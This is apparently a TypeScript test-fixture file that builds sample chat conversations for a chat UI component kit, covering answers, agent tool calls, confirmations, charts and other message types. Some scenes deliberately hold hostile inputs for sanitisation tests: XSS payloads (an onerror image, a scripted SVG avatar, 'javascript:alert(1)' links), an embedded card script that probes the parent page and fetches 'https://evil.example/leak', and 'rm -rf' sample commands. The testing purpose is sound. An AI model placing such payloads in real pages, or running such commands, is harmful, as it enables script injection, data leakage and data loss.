import type { Block, ChatMessageInput } from '../../../src/model/chat-message.ts'
import { chatKitError } from '../../../src/model/chat-kit-error.ts'
import { hostileMarkdown } from '../../hostile-markdown.ts'
import { passageBlocks } from './passage-scene.ts'
import { workScenes } from './work-scenes.ts'
import { chartBlocks, codeAnswer, diagramAnswer, FLOW, hostileCharts, mathAnswer } from './rich-scenes.ts'

export type SceneName =
  | 'answer'
  | 'agent'
  | 'ask'
  | 'decided'
  | 'frames'
  | 'hostile'
  | 'thousand'
  | 'failed'
  | 'rtl'
  | 'code'
  | 'math'
  | 'diagram'
  | 'diagrams'
  | 'chart'
  | 'hostile-chart'
  | 'sources'
  | 'passages'
  | keyof ReturnType<typeof workScenes>

const AT = Date.UTC(2026, 2, 3, 9, 41)
const user = (text: string, more: Partial<ChatMessageInput> = {}): ChatMessageInput => ({
  messageID: `u${text.length}${text.slice(0, 8)}`,
  role: { name: 'Mira', type: 'User', avatar: '' },
  content: [{ type: 'Text', content: text, key: 't' }],
  createdAt: AT,
  ...more,
})
const assistant = (id: string, content: Block[], more: Partial<ChatMessageInput> = {}): ChatMessageInput => ({
  messageID: id,
  role: { name: 'AI assistant', type: 'Assistant', avatar: '' },
  content: content.map((block, i) => ({ key: String(i), ...block })),
  createdAt: AT + 5000,
  ...more,
})

const RISKY = {
  message: 'Run this command in the workspace?',
  action: { type: 'tool', target: 'Bash', params: {} },
  risk: 'high',
  preview: 'rm -rf dist',
  arguments: { command: 'rm -rf dist' },
  editable: true,
  expiresAt: new Date(AT + 900_000).toISOString(),
}

const ANSWER_EN = `The Rhine at **Kaub** stands at \`1.24 m\`, well below the ten-year mean[^1].

1. It has fallen for *nine days*.
2. Barges load [about half](https://example.org/barges).
   - below 0.80 m most stop

| Station | Level | Trend |
| :--- | ---: | :---: |
| Kaub | 1.24 m | falling |
| Köln | 2.03 m | steady |

\`\`\`python
def level(station: str) -> float:
    return readings[station][-1]  # metres
\`\`\`

> Measured at 06:00, without correction.

- [x] read the gauges
- [ ] compare with last year

[^1]: Mean of 2015 to 2025.`

const ANSWER_ZH = `卡布（Kaub）的水位是 **1.24 米**，远低于十年均值。**注意：**海水的冰点更低。

1. 水位已经*连续九天*下降；
2. 货船只能装载[大约一半](https://example.org/barges)。

| 站点 | 水位 | 趋势 |
| :--- | ---: | :---: |
| 卡布 | 1.24 米 | 下降 |
| 科隆 | 2.03 米 | 平稳 |

\`\`\`python
def level(station: str) -> float:
    return readings[station][-1]  # 单位：米
\`\`\`

> 数据于六点测得，未经修正。`

const SOURCED = 'The level falls [1], barges load half [1][2]. Not a source: [3], `[1]`, [1](https://example.org/own).'

/** Conversations that show every block in every state. */
export function scenes(locale: string): Record<SceneName, ChatMessageInput[]> {
  const isChinese = locale.startsWith('zh')
  return {
    ...workScenes(isChinese),
    answer: [
      user(isChinese ? '莱茵河现在水位多高？' : 'How high is the Rhine at Kaub right now?', {
        applicationContext: { title: isChinese ? '水位地图' : 'Map of gauges', data: {} },
      }),
      assistant('a1', [{ type: 'Markdown', content: isChinese ? ANSWER_ZH : ANSWER_EN }], {
        messageContext: {
          elapsedSeconds: 3.21,
          totalTokens: 1842,
          relatedQuestions: isChinese ? ['科隆呢？', '什么时候会上涨？'] : ['And at Köln?', 'When will it rise again?'],
        },
      }),
    ],
    agent: [
      user('Plan a barge trip and check the levels.'),
      assistant('a2', [
        { type: 'Reasoning', content: { text: 'First the gauges, then the locks.', durationMs: 2300 } },
        {
          type: 'Tool',
          content: {
            name: 'Read',
            title: 'Read gauges.csv',
            input: { path: 'gauges.csv' },
            output: 'Kaub,1.24',
            durationMs: 120,
          },
        },
        {
          type: 'Tool',
          content: {
            name: 'Bash',
            title: 'Count the locks',
            input: { command: 'wc -l' },
            output: '12',
            durationMs: 80,
          },
        },
        { type: 'Markdown', content: 'The gauges are read. Now the web:' },
        {
          type: 'WebSearch',
          content: {
            input: 'rhine level kaub',
            results: [
              {
                title: 'Gauge report',
                link: 'https://example.org/g',
                content: 'Levels keep falling this week.',
                media: 'Hydro',
                icon: 'https://evil.example/icon.png',
              },
              {
                title: 'Low water',
                link: 'javascript:alert(1)',
                content: 'Barges load half.',
                media: 'News',
                icon: '',
              },
            ],
          },
        },
        {
          type: 'Tool',
          content: {
            name: 'Bash',
            title: 'Delete the cache',
            status: 'error',
            error: 'Permission denied',
            input: 'rm -rf cache',
            durationMs: 15,
          },
        },
        { type: 'Tool', content: { name: 'Agent', title: 'Waiting for you', status: 'awaiting_answer' } },
        {
          type: 'SubAgent',
          content: {
            toolCallID: 'x',
            title: 'Research the locks',
            status: 'done',
            messages: [assistant('s1', [{ type: 'Markdown', content: 'Twelve locks, **two** closed.' }]) as never],
          },
        },
        {
          type: 'Plan',
          content: {
            status: 'in_progress',
            steps: [
              { id: '1', title: 'Read the gauges', status: 'completed' },
              { id: '2', title: 'Choose the locks', status: 'in_progress' },
              { id: '3', title: 'Book the pilot', status: 'pending' },
            ],
          },
        },
        {
          type: 'Tasks',
          content: {
            tasks: [
              { id: 'k1', title: 'Call Kaub', status: 'completed', created_at: '', updated_at: '' },
              { id: 'k2', title: 'Call Köln', status: 'cancelled', created_at: '', updated_at: '' },
            ],
          },
        },
        {
          type: 'Json2Plot',
          content: {
            chartType: 'Line',
            title: 'Levels',
            dimensions: [{ name: 'day', displayName: 'Day', dataType: 'string' }],
            measures: [{ name: 'm', displayName: 'Metres', dataType: 'number' }],
            rows: [
              { day: 'Mon', m: 1.3 },
              { day: 'Tue', m: 1.24 },
            ],
          },
        },
        {
          type: 'Sources',
          content: [{ title: 'tides.pdf', link: '', content: '06:00 high', media: 'Harbour', icon: '' }],
        },
        {
          type: 'File',
          content: {
            name: 'report.pdf',
            url: 'https://example.org/report.pdf',
            mediaType: 'application/pdf',
            size: 48_200,
          },
        },
        { type: 'Code', content: { code: 'select * from gauges', language: 'sql' } },
        {
          type: 'Notice',
          content: {
            text: 'Earlier messages were compacted',
            level: 'info',
            kind: 'compaction',
            details: 'The user plans a **barge trip**.',
          },
        },
        { type: 'Notice', content: { text: 'The step limit is near', level: 'warning' } },
        { type: 'Hologram', content: {} },
      ]),
    ],
    ask: [
      user('Deploy it.'),
      assistant('a3', [
        {
          type: 'Question',
          content: {
            questionID: 'q1',
            state: 'waiting',
            questions: [
              {
                question: 'Which environment?',
                header: 'Deployment',
                options: [{ label: 'staging', description: 'For tests' }, { label: 'production' }],
              },
              { question: 'Which checks?', options: [{ label: 'types' }, { label: 'tests' }], multiSelect: true },
            ],
          },
        },
        {
          type: 'Confirmation',
          content: { ...RISKY, confirmationId: 'c1', state: 'waiting' },
        },
      ]),
    ],
    decided: [
      user('Delete dist and tell me when it is done.'),
      assistant('a3', [
        { type: 'Confirmation', content: { ...RISKY, confirmationId: 'c1', state: 'answered', approved: true } },
        { type: 'Confirmation', content: { ...RISKY, confirmationId: 'c2', state: 'waiting', isForOthers: true } },
      ]),
    ],
    frames: [
      user('Show the card.'),
      assistant('a4', [
        {
          type: 'UiCard',
          content: {
            target: 'inline',
            title: 'Gauge card',
            resourceHTML: `<style>body{font:16px sans-serif;margin:12px}</style><h1>Kaub</h1><p id="out">1.24 m</p>
<script>
  let reach = 'none'
  try { reach = parent.document.title } catch (e) { reach = 'blocked' }
  document.getElementById('out').textContent = 'parent: ' + reach
  parent.postMessage({ type: 'ck:bridge', action: 'map.highlight', payload: { origin: self.origin, reach } }, '*')
  fetch('https://evil.example/leak').catch(() => parent.postMessage({ type: 'ck:bridge', action: 'fetch', payload: 'refused' }, '*'))
</script>`,
          },
        },
        { type: 'WebProcessor', content: { url: 'https://evil.example/page', title: 'A foreign page' } },
        { type: 'WebProcessor', content: { url: 'javascript:alert(1)', title: 'Not a page' } },
      ]),
    ],
    hostile: [
      user('<img src=x onerror="window.__pwned=1">'),
      ...hostileMarkdown.map((text, i) => hostileMessage(text, i)),
    ],
    thousand: Array.from({ length: 1000 }, (_, i) =>
      i % 2 === 0
        ? user(`Question ${i}`, { messageID: `m${i}` })
        : assistant(`m${i}`, [
            {
              type: 'Markdown',
              content: `Answer **${i}**: ${'the gauge shows a level that is well below the mean. '.repeat(10)}`,
            },
          ]),
    ),
    failed: [
      user('And now?'),
      assistant('a5', [{ type: 'Markdown', content: 'The lev' }], {
        status: 'failed',
        error: chatKitError('network', 'lost', { platformCode: '5000', requestID: 'L1' }),
      }),
      user('Am I signed in?'),
      assistant('a6', [], { status: 'failed', error: chatKitError('auth', 'signed out') }),
    ],
    code: [user('Show me code.'), assistant('c1', [{ type: 'Markdown', content: codeAnswer() }])],
    math: [user('How fast?'), assistant('m1', [{ type: 'Markdown', content: mathAnswer(isChinese) }])],
    diagram: [user('Draw it.'), assistant('d1', [{ type: 'Markdown', content: diagramAnswer() }])],
    diagrams: [
      user('Draw many.'),
      ...Array.from({ length: 12 }, (_, i) =>
        assistant(`d${i}`, [
          { type: 'Markdown', content: `${'A river. '.repeat(400)}\n\n\`\`\`mermaid\n${FLOW}\n\`\`\`` },
        ]),
      ),
    ],
    chart: [user('Plot it.'), assistant('p1', chartBlocks(isChinese))],
    'hostile-chart': [user('Plot that.'), assistant('p2', hostileCharts())],
    sources: [
      user('Says who?'),
      assistant(
        's1',
        [
          { type: 'Markdown', content: SOURCED },
          {
            type: 'Sources',
            content: [
              {
                title: 'Gauge report',
                link: 'https://example.org/g',
                content: 'Levels fall.',
                media: 'Hydro',
                icon: '',
              },
              { title: 'tides.pdf', link: '', content: '06:00 high', media: 'Harbour', icon: '' },
            ],
          },
        ],
        {
          messageContext: {
            memories: [
              { id: 'm1', title: isChinese ? '偏好公制单位' : 'Prefers metric units' },
              { id: 'm2', title: isChinese ? '住在科隆' : 'Lives in Köln' },
            ],
          },
        },
      ),
    ],
    passages: [
      user(isChinese ? '多久之内可以退货？' : 'How long may I return goods?'),
      assistant('k1', passageBlocks(isChinese)),
    ],
    rtl: [
      user('ما مستوى النهر؟'),
      assistant('a6', [{ type: 'Markdown', content: 'المستوى **1.24** متر.\n\n- أولاً\n- ثانياً' }]),
    ],
  }
}

function hostileMessage(text: string, i: number): ChatMessageInput {
  const avatar = i % 3 === 0 ? '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=1</script></svg>' : ''
  return assistant(
    `h${i}`,
    [
      { type: 'Markdown', content: text },
      { type: 'Text', content: text },
    ],
    {
      role: { name: 'AI', type: 'Assistant', avatar },
    },
  )
}
